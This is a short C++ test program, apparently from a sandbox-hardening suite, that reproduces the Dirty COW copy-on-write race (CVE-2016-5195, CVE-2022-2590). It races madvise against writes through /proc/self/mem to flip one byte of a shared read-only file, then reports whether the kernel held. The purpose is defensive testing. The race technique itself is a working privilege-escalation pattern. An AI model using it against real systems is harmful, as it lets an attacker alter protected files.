/*
 * hostile: races the copying of a private page of a shared file against letting it go (as CVE-2016-5195, CVE-2022-2590)
 * class: known faults of kernels and runtimes
 * verdicts: AC
 * invariant: the page cache of a file that all boxes share is not to be written
 */
#include <atomic>
#include <cstdio>
#include <cstring>
#include <ctime>
#include <fcntl.h>
#include <sys/mman.h>
#include <thread>
#include <unistd.h>

int main()
{
	const int shared = open("/usr/share/zoneinfo/Antarctica/Troll", O_RDONLY | O_CLOEXEC);
	const int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	char before[32], after[32];
	std::atomic<bool> stop{ false };

	if (shared < 0 || pread(shared, before, sizeof(before), 0) != (ssize_t)sizeof(before))
		return 1;
	auto *page = (char *)mmap(nullptr, 4096, PROT_READ, MAP_PRIVATE, shared, 0);
	std::thread drop([&] {
		while (!stop)
			(void)madvise(page, 4096, MADV_DONTNEED);
	});
	const clock_t end = clock() + CLOCKS_PER_SEC * 3 / 10;
	while (clock() < end) {
		/* The same bytes again but for the last, which only this program looks at. */
		const char other = (char)(before[31] ^ 1);

		if (pwrite(memory, &other, 1, (off_t)(page + 31)) < 0)
			(void)usleep(1);
	}
	stop = true;
	drop.join();
	if (pread(shared, after, sizeof(after), 0) != (ssize_t)sizeof(after) ||
	    memcmp(before, after, sizeof(after)) != 0)
		puts("ESCAPED: a shared file was changed");
	else
		puts("held");
	return 0;
}
